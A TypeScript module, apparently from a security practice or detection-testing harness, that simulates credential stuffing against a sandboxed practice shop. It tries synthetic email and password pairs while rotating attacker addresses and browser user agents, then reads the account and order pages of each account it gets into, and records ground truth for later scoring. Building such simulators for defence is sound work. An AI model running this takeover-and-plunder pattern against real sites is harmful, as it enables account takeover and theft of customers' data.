import type { PracticeShop } from '../open-practice-shop.ts';
import { attackerAddresses } from '../traffic/addresses.ts';
import { openClient } from '../traffic/open-client.ts';
import { pacer } from '../traffic/pause.ts';
import { browserAgents } from '../traffic/user-agents.ts';
import { type SeededRandom, seededRandom } from '../world/seeded-random.ts';
import { type AttackOptions, type AttackTruth, openTally, refuseOthers, type Tally } from './attack-truth.ts';

export interface StuffOptions extends AttackOptions {
  readonly perSecond?: number;
  /** Pairs of mail address and password to try; 240 unless told. */
  readonly pairs?: number;
  /** How many of the pairs fit; 9 unless told. */
  readonly fitting?: number;
  /** Addresses that share the work; 40 unless told. */
  readonly addresses?: number;
}

interface Pair {
  readonly email: string;
  readonly password: string;
}

/** A list as it is traded: mostly old passwords, some strangers, a few that still fit. */
function makePairs(shop: PracticeShop, count: number, fitting: number, random: SeededRandom): Pair[] {
  const chosen = new Map<string, Pair>();
  while (chosen.size < Math.min(count, shop.world.customers.length)) {
    const customer = random.pick(shop.world.customers);
    const stranger = chosen.size >= fitting && random.chance(0.4);
    const email = stranger ? `stranger-${random.hex(6)}@mail.practice-shop.test` : customer.email;
    if (!chosen.has(email)) chosen.set(email, { email, password: chosen.size < fitting ? customer.password : `old-${random.hex(8)}` });
  }
  const pairs = [...chosen.values()];
  for (let i = pairs.length - 1; i > 0; i--) {
    const j = random.between(0, i);
    const [a, b] = [pairs[i], pairs[j]];
    if (a && b) [pairs[i], pairs[j]] = [b, a];
  }
  return pairs;
}

async function plunder(shop: PracticeShop, client: ReturnType<typeof openClient>, tally: Tally, email: string): Promise<void> {
  const victim = shop.world.customers.find((each) => each.email === email);
  if (!victim) return;
  tally.takenOver(victim.id);
  const account = tally.answered(await client.ask('/account'), client.address);
  if (account.status === 200) tally.customer(victim.id);
  const list = tally.answered(await client.ask('/account/orders'), client.address);
  for (const [, number = ''] of list.text.matchAll(/\/account\/orders\/(\d+)"/g)) {
    const answer = tally.answered(await client.ask(`/account/orders/${number}`), client.address);
    if (answer.status === 200 && answer.text.includes(`Order ${number}`)) tally.order(number, shop.truth.customerOf(number)?.id);
  }
}

/** Tries a list of pairs from many addresses; where one fits, reads the account and its orders. */
export async function stuffCredentials(shop: PracticeShop, options: StuffOptions = {}): Promise<AttackTruth> {
  await refuseOthers(shop);
  const random = seededRandom(options.seed ?? 'stuff');
  const addresses = attackerAddresses('stuff-credentials', options.addresses ?? 40, random);
  const pairs = makePairs(shop, options.pairs ?? 240, options.fitting ?? 9, random);
  const tally = openTally('stuff-credentials');
  const wait = pacer(options.perSecond ?? 30, options.signal);
  for (const [index, pair] of pairs.entries()) {
    await wait();
    if (options.signal?.aborted) break;
    const agent = browserAgents[index % browserAgents.length] ?? 'Mozilla/5.0';
    const client = openClient(shop.url, addresses[index % addresses.length] ?? '203.0.113.201', agent);
    const form = { email: pair.email, password: pair.password };
    const answer = tally.answered(await client.ask('/account/sign-in', { form }), client.address);
    if (answer.status === 303) await plunder(shop, client, tally, pair.email);
  }
  await shop.settled();
  return tally.finish();
}
